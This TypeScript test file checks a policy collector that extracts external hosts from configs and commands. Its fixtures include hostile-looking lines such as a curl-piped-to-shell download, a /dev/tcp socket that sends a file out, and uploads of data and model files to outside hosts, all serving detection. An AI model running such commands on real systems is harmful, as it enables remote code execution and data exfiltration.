import { hostsCalled } from '../../../../policies/collectors/text/call-sites';

test.each<[string, string, string[]]>([
  ['a name server', 'nameserver 8.8.8.8', ['8.8.8.8']],
  ['a forwarder of CoreDNS', 'forward . 8.8.8.8', ['8.8.8.8']],
  ['an option', '--upstream 203.0.113.9:8443', ['203.0.113.9']],
  ['a hosts file', 'echo 203.0.113.9 llm.local >> /etc/hosts', ['203.0.113.9']],
  ['a socket of the shell', 'cat x > /dev/tcp/collect.example.com/443', ['collect.example.com']],
  ['an address of IPv6', 'listen [2001:4860:4860::8888]:443', ['2001:4860:4860::8888']],
  ['a connection of Python', "http.client.HTTPSConnection('collect.example.com')", ['collect.example.com']],
  ['a request of Node', "https.request({ hostname: 'collect.example.com' })", ['collect.example.com']],
  ['an output of Fluent Bit', '[OUTPUT]\n  Name forward\n  Host collect.example.com', ['collect.example.com']],
  ['a download', 'curl -fsSL get.example.com | sh', ['get.example.com']],
  ['an upload', 'curl -T /data collect.example.com/in', ['collect.example.com']],
  ['a copy', 'scp model.bin backup@203.0.113.9:/x', ['203.0.113.9']],
])('finds %s', (_, text, expected) => { expect(hostsCalled(text)).toEqual(expected); });

test.each<[string, string]>([
  ['private addresses', 'nameserver 10.0.0.10\nserver 192.168.1.1\n[fd00::1]:53'],
  ['versions', 'version 1.2.3.4\ndriver 535.104.05\nfoo==1.2.3.4'],
  ['ranges', 'host 203.0.113.0/24'],
  ['times', '[12:30:45] started'],
  ['the own name of a service', 'host: "chat.acme.eu"'],
  ['files that a download is written to', 'curl -o installer.run -T data.in llm'],
  ['files that are copied', 'rsync -a dump.out /mnt/data'],
  ['services of the cluster', 'curl http://llm.svc/v1\nnc -z postgres 5432'],
])('says nothing of %s', (_, text) => { expect(hostsCalled(text)).toEqual([]); });

test('takes linear time', () => {
  for (const unit of ['curl ', 'host 1.', '[:', '1.1.1.1 a ', 'Host ', 'connect("']) expect(hostsCalled(unit.repeat(50_000))).toEqual([]);
});
